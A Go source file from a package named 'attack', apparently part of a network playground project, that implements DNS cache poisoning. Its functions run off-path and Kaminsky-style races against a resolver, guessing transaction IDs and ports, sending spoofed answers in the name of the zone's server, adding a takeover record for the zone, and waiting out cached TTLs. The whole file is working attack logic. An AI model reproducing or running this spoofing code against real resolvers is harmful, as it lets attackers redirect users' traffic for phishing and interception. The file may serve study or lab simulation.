package attack

import (
	"errors"
	"net"
	"net/netip"
	"strings"
	"time"

	mdns "github.com/miekg/dns"

	"playnet/core/dns"
)

// race guesses ids and ports against true answers, off the path or as Kaminsky's run.
func (p *Program) race() error {
	if err := p.probe(); err != nil {
		return err
	}
	if p.leave != nil {
		defer p.leave()
	}
	c := &p.config
	// The way to the zone's servers shall be in the cache: then the resolver asks them at
	// once, and the forged answers compete with theirs alone.
	zone := c.Name
	if c.Kind == OffPath {
		_, zone, _ = strings.Cut(c.Name, ".")
	}
	if _, err := p.ask(p.below(zone), nil); err != nil {
		return err
	}
	for p.done.Races < uint64(c.Races) && !p.ended {
		name := c.Name
		if c.Kind == Kaminsky {
			name = p.below(c.Name)
		}
		won, rest, err := p.raceFor(name, zone)
		if err != nil {
			return err
		}
		if won && !c.All {
			p.become(Succeeded)
			return nil
		}
		if rest > 0 && p.done.Races < uint64(c.Races) {
			// The true answer is in the cache: nothing can be forged before it is gone.
			p.become(Resting)
			if err := p.h.Sleep(rest); err != nil {
				return err
			}
		}
	}
	switch {
	case p.done.Won > 0:
		p.become(Succeeded)
	case p.ended:
		p.become(Over)
	default:
		p.become(GaveUp)
	}
	return nil
}

// raceFor has the resolver ask for a name, and forges answers until the true one is there.
// rest is how long that one stays in the cache.
func (p *Program) raceFor(name, zone string) (won bool, rest time.Duration, err error) {
	c := &p.config
	if err := p.catchUp(); err != nil {
		return false, 0, err
	}
	p.become(Racing)
	p.done.Races++
	g := p.know.guessing(name)
	p.h.Emit(Try{Name: dot(name), Race: int(p.done.Races), Forgeries: c.Forgeries, Combinations: uint64(g.Combinations())})
	m, err := p.ask(name, func() error { return p.forgeries(name, zone) })
	if err != nil {
		return false, 0, err
	}
	if m != nil && len(m.Answer) > 0 {
		won = p.believed(m)
		rest = time.Duration(m.Answer[0].Header().Ttl+1) * time.Second
	}
	if won {
		p.done.Won++
		p.h.Emit(Won{Name: dot(name), Race: int(p.done.Races)})
		return true, 0, nil
	}
	p.h.Emit(Lost{Name: dot(name), Race: int(p.done.Races)})
	if c.Kind == Kaminsky {
		rest = 0 // nobody will ask for this name again
	}
	return false, rest, nil
}

// forgeries sends the answers of one race, each with another guess.
func (p *Program) forgeries(name, zone string) error {
	c := &p.config
	m := answering(mdns.Question{Name: dot(name), Qtype: mdns.TypeA, Qclass: mdns.ClassINET}, c.Address)
	if c.Kind == Kaminsky && !c.All {
		takeover(m, zone, c.Address)
	}
	f := forge(m)
	from := netip.AddrPortFrom(c.As, dns.Port)
	pause := time.Second / time.Duration(max(c.Rate, 1))
	var mixed func() bool
	if p.know.mixed {
		mixed = func() bool { return p.dice.Uint32()&1 == 1 }
	}
	for i := range c.Forgeries {
		b := f.guess(p.guessID(i), mixed)
		if _, err := p.wire.Forge(from, netip.AddrPortFrom(c.Target, p.guessPort()), b); err != nil {
			return err
		}
		p.done.Packets++
		p.done.Bytes += uint64(len(b))
		if err := p.h.Sleep(pause); err != nil {
			return err
		}
	}
	return nil
}

func (p *Program) guessPort() uint16 {
	if len(p.know.ports) == 0 {
		return p.port()
	}
	return p.know.ports[p.dice.IntN(len(p.know.ports))]
}

func (p *Program) guessID(i int) uint16 {
	if p.know.counts {
		return p.know.next + 1 + uint16(i%countedGuesses)
	}
	return uint16(p.dice.Uint32()) & (1<<p.know.bits - 1)
}

// unlessClosed forgives a socket that hears nothing, but not a host that stops.
func unlessClosed(err error) error {
	if errors.Is(err, net.ErrClosed) {
		return err
	}
	return nil
}
